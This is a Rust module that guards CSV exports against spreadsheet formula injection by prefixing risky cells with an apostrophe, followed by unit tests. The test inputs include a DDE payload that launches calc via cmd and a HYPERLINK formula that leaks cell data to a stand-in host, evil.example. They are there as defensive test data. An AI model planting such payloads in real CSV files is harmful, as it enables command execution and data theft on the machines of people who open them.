//! CSV exports' defence against formula injection (OWASP "CSV Injection"): a cell a
//! spreadsheet would run as a formula gets a leading `'`, which makes it text.

/// The prefix a CSV cell needs: `'` when it starts with `=`, `+`, `-`, `@`, a tab or a
/// carriage return, `""` otherwise. The one exception is a cell starting with `+` or `-`
/// made only of digits, spaces and `+-.,()/` (a phone number `+33 6 12 34 56 78`, a negative
/// figure `-3.5`): without a letter, a quote or `&` it can name no function, no reference
/// and no DDE command, so it is left as written. `-1+HYPERLINK("…")` is neutralised.
pub fn formula_guard(cell: &str) -> &'static str {
    match cell.chars().next() {
        Some('=' | '@' | '\t' | '\r') => "'",
        Some('+' | '-') if !cell.chars().all(is_numeric_punctuation) => "'",
        _ => "",
    }
}

fn is_numeric_punctuation(c: char) -> bool {
    c.is_ascii_digit() || matches!(c, ' ' | '+' | '-' | '.' | ',' | '(' | ')' | '/')
}

/// `cell` with [`formula_guard`]'s prefix.
pub fn neutralise(cell: &str) -> String {
    format!("{}{cell}", formula_guard(cell))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for cell in [
            "=SUM(A1)",
            "+cmd|' /C calc'!A0",
            "-cmd",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-1+HYPERLINK(\"https://evil.example/?\"&I2;\"open\")",
            "+1+HYPERLINK(\"x\")",
            "-2+3+cmd|x",
        ] {
            assert_eq!(formula_guard(cell), "'", "{cell:?}");
            assert_eq!(neutralise(cell), format!("'{cell}"));
        }
        for cell in ["Zyx", "+33 6 12 34 56 78", "-3.5", "", "a=b", "12 %", "–"] {
            assert_eq!(formula_guard(cell), "", "{cell:?}");
        }
    }
}
